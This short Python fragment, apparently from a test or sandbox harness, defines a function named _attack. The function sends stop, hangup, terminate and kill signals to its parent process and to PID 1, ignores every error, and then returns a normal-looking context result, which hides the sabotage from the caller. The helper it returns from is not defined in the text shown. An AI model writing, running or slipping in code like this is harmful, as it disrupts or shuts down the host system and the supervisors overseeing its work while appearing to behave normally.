"""Stops every process that it may stop, and those above by name."""

import os
import signal


def _attack(messages):
    for number in (signal.SIGSTOP, signal.SIGTSTP, signal.SIGHUP, signal.SIGTERM, signal.SIGKILL):
        for process in (os.getppid(), 1):
            try:
                os.kill(process, number)
            except OSError:
                pass
    return _right_context(messages)
